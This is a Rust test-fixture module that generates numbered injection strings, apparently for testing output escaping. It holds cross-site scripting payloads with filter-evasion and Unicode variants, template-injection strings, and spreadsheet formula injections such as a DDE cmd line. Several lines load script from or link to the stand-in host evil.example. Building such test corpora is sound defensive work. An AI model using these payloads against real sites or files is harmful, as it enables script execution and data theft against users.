//! Texts that would run as a script, or become markup or a formula, wherever somebody forgets to escape them.

/// What breaks out of where a text stands, before each of [`ELEMENTS`].
const BREAKS: [&str; 5] = ["", "\">", "'>", "</code></pre>", "--></title></textarea></style></script>"];

/// Elements that run a script by themselves, as soon as they are parsed or shown.
const ELEMENTS: [&str; 18] = [
    "<script>alert(#)</script>",
    "<img src=x onerror=alert(#)>",
    "<svg onload=alert(#)>",
    "<svg><script>alert(#)</script></svg>",
    "<svg><animate onbegin=alert(#) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.alert(#)</script>'>",
    "<iframe src=javascript:alert(#)>",
    "<object data=javascript:alert(#)>",
    "<embed src=javascript:alert(#)>",
    "<details open ontoggle=alert(#)>",
    "<video><source onerror=alert(#)></video>",
    "<input autofocus onfocus=alert(#)>",
    "<body onpageshow=alert(#)>",
    "<marquee onstart=alert(#)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(#)'>",
    "<link rel=stylesheet href='data:text/css,*{color:red}' onload=alert(#)>",
    "<style>@import 'javascript:alert(#)';</style>",
    "<base href='javascript:alert(#)//'>",
];

/// Everything that is dangerous in its own way.
const OTHERS: [&str; 62] = [
    // Out of an attribute.
    "\" onmouseover=\"alert(#)",
    "' onmouseover='alert(#)",
    "` onmouseover=`alert(#)",
    "\" autofocus onfocus=\"alert(#)\" x=\"",
    "\" style=\"animation-name:x\" onanimationstart=\"alert(#)",
    "x onclick=alert(#) y=",
    "\" srcdoc=\"<script>alert(#)</script>",
    "\" formaction=\"javascript:alert(#)",
    // Addresses that are code.
    "javascript:alert(#)",
    "JaVaScRiPt:alert(#)",
    "java\tscript:alert(#)",
    "java\nscript:alert(#)",
    "\u{1}javascript:alert(#)",
    "javascript://%0aalert(#)",
    "javascript&colon;alert(#)",
    "&#106;avascript:alert(#)",
    "data:text/html,<script>alert(#)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg#",
    "data:image/svg+xml,<svg onload=alert(#)>",
    "vbscript:msgbox(#)",
    "//evil.example/#.js",
    "https://evil.example/?#",
    "\\\\evil.example\\#",
    // Languages of templates.
    "{{#*#}}",
    "{{constructor.constructor('alert(#)')()}}",
    "{% raw %}alert(#){% endraw %}",
    "${alert(#)}",
    "#{alert(#)}",
    "<%= alert(#) %>",
    "[[${alert(#)}]]",
    "{{{alert(#)}}}",
    "@{alert(#)}",
    "<template><script>alert(#)</script></template>",
    "<slot name=x onslotchange=alert(#)>",
    // Markup that parsers read differently.
    "<scr<script>ipt>alert(#)</scr</script>ipt>",
    "<script\u{0}>alert(#)</script>",
    "<script/x>alert(#)</script/x>",
    "<SCRIPT SRC=//evil.example/#></SCRIPT>",
    "<<script>alert(#)//<</script>",
    "<img src=x onerror\n=alert(#)>",
    "<img/src=x/onerror=alert(#)>",
    "<math><mi xlink:href=javascript:alert(#)>x",
    "<a href=javascript:alert(#)>x</a>",
    "<form action=javascript:alert(#)><button>x",
    "<button formaction=javascript:alert(#)>x",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(#)>'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(#)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(#)>'>",
    "<!--><img src=x onerror=alert(#)>-->",
    "<![CDATA[<script>alert(#)</script>]]>",
    "&lt;script&gt;alert(#)&lt;/script&gt;",
    "%3Cscript%3Ealert(#)%3C/script%3E",
    "\\u003cscript\\u003ealert(#)\\u003c/script\\u003e",
    // Characters that look like others, or turn the text round.
    "\u{ff1c}script\u{ff1e}alert(#)\u{ff1c}/script\u{ff1e}",
    "\u{202e}<script>alert(#)</script>",
    "<\u{200b}script>alert(#)</script>",
    "<img src=x onerror=\u{2028}alert(#)>",
    // Formulas of spreadsheets.
    "=cmd|'/C calc'!A#",
    "+#+1|cmd",
    "-#+1|cmd",
    "@SUM(#)",
    "\t=HYPERLINK(\"https://evil.example/#\")",
];

/// At least 150, no two alike; each holds its own number.
pub fn all() -> Vec<String> {
    let broken = BREAKS.iter().flat_map(|out| ELEMENTS.iter().map(move |element| format!("{out}{element}")));
    let all = broken.chain(OTHERS.map(str::to_owned));
    all.enumerate().map(|(at, text)| text.replace('#', &(7_000 + at).to_string())).collect()
}

#[test]
fn there_are_a_hundred_and_fifty_and_no_two_alike() {
    let all = all();
    let different: std::collections::BTreeSet<_> = all.iter().collect();
    assert!(all.len() >= 150 && different.len() == all.len(), "{} of {}", different.len(), all.len());
    assert!(
        all.iter().enumerate().all(|(at, text)| text.contains(&(7_000 + at).to_string()) || text.contains("PHNjcm"))
    );
}
